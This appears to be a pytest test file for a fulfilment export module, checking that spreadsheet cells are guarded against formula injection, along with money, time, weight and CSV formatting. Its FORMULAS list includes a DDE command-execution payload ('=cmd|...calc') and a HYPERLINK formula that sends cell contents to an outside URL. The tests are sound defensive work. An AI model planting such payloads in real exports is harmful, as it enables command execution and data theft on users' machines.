"""A cell never becomes a formula, never loses what it says, and is written in the form of its shape."""

import csv
import io
import json
import re
from collections.abc import Iterable
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fundlaunch.fulfilment import cells
from fundlaunch.fulfilment.columns import PLAIN, Column, Kind, distinct
from fundlaunch.fulfilment.presets.warehouse import ounces
from fundlaunch.fulfilment.writers import Sheet, csv_chunks
from fundlaunch.money import Money

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", '"=1+1', "'=1+1", " =1", "\u00a0=1",
    "\ufeff=1", "\u200b=1", "\u3000=1", "＝1+1", "＋1", "－1", "＠A1", "﹦1", "−1", "\n=1", "\x00=1", "“=1”", "-",
    "+82 10 =1", "\u202e=1", "\tplain", "\rplain", "+1;=2", '=HYPERLINK("http://example.org?x="&A1,"x")',
]  # fmt: skip
PLAIN_TEXTS = [
    "Mina",
    "박지우",
    "1 Main Street",
    "00123",
    "O'Neill",
    "a=b",
    "x@example.org",
    "3-5",
    "",
    "§ 5",
    "¿?",
    "(+1)",
    "#1",
]

OPENING = " \t\r\n\x00\"'`´‘’“”„«»\u00a0\u3000\ufeff\u200b\u202e"
SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫−"


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_could_be_a_formula_gets_an_apostrophe(typed: str) -> None:
    assert cells.guarded(typed).startswith("'")
    assert not is_formula(cells.guarded(typed))


@pytest.mark.parametrize("typed", FORMULAS)
def test_without_the_guard_a_spreadsheet_would_read_a_formula_or_drop_a_sign(typed: str) -> None:
    assert is_formula(typed) or typed[0] in "\t\r'"


@pytest.mark.parametrize("typed", PLAIN_TEXTS)
def test_plain_text_stays_as_it_is(typed: str) -> None:
    assert cells.guarded(typed) == typed


@given(st.text())
def test_no_text_whatever_comes_out_as_a_formula_or_with_a_control_character(typed: str) -> None:
    written = cells.guarded(typed)
    assert not is_formula(written)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", written)


def test_no_naughty_string_comes_out_as_a_formula(shared_data: Path) -> None:
    strings = json.loads((shared_data / "text" / "blns.json").read_text(encoding="utf-8"))
    assert any(is_formula(typed) for typed in strings)
    assert [typed for typed in strings if is_formula(cells.guarded(typed))] == []


def is_formula(written: str) -> bool:
    """Written a second time, more plainly: the first mark behind spaces and opening marks is the sign of a formula.

    An apostrophe in front is how a spreadsheet is told that a cell is text.
    """
    return not written.startswith("'") and written.lstrip(OPENING)[:1] in set(SIGNS)


@pytest.mark.parametrize("typed", ["+1 (202) 555-0143", "+82 10-1234-5678"])
def test_a_telephone_number_stays_as_it_is(typed: str) -> None:
    assert cells.guarded_phone(typed) == typed


@pytest.mark.parametrize("typed", ["+1+1", "=1", "+82 10 =1", "+1\n", "-5", "+A1"])
def test_what_only_begins_like_a_telephone_number_is_guarded(typed: str) -> None:
    assert cells.guarded_phone(typed).startswith("'")


@pytest.mark.parametrize(
    ("amount", "plain", "signed"),
    [
        (Money(100_000, "USD"), "1000.00", "$1,000.00"),
        (Money(100_000, "SEK"), "1000.00", "SEK 1,000.00"),
        (Money(168_000, "KRW"), "168000", "KRW 168,000"),
        (Money(5, "EUR"), "0.05", "€0.05"),
        (Money(1_234_567, "KWD"), "1234.567", "KWD 1,234.567"),
    ],
)
def test_money_is_written_in_both_forms(amount: Money, plain: str, signed: str) -> None:
    assert cells.money_plain(amount) == plain
    assert cells.money_signed(amount) == signed


def test_a_time_is_written_in_utc_or_on_the_clocks_of_the_campaign() -> None:
    when = datetime(2018, 3, 28, 1, 27, 59, tzinfo=UTC)
    assert cells.time_iso(when, "Asia/Seoul") == "2018-03-28T01:27:59Z"
    assert cells.time_slashed(when, "Asia/Seoul") == "2018/03/28, 10:27"


def test_weights_become_ounces_to_the_hundredth() -> None:
    assert [ounces(grams) for grams in (0, 1, 28, 4200)] == [Decimal(x) for x in ("0.00", "0.04", "0.99", "148.15")]


def test_csv_keeps_line_breaks_quotes_and_commas_and_ends_lines_with_crlf() -> None:
    texts = ['a "quoted" one', "two\r\nlines", "one, two", " spaces ", "NUL\x00 and bell\x07", "00123"]
    raw = b"".join(csv_chunks(sheet([Column("=header", str)], texts)))
    assert raw.startswith(b"'=header\r\n")
    assert raw.endswith(b"\r\n")
    read = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert [row[0] for row in read[1:]] == [
        'a "quoted" one', "two\nlines", "one, two", " spaces ", "NUL and bell", "00123",
    ]  # fmt: skip


def test_a_long_list_comes_in_pieces() -> None:
    pieces = list(csv_chunks(sheet([Column("n", int, Kind.COUNT)], range(50_000))))
    assert len(pieces) > 3
    assert b"".join(pieces).count(b"\r\n") == 50_001


def test_no_two_columns_have_one_name() -> None:
    columns: list[Column[object]] = [Column(header, str) for header in ("Mug", "mug", "Bag", "Mug", "Mug (2)")]
    assert [column.header for column in distinct(columns)] == ["Mug", "mug (2)", "Bag", "Mug (3)", "Mug (2) (2)"]


def sheet(columns: list[Column[Any]], lines: Iterable[object]) -> Sheet:
    return Sheet("USD", "UTC", PLAIN, columns, lines)
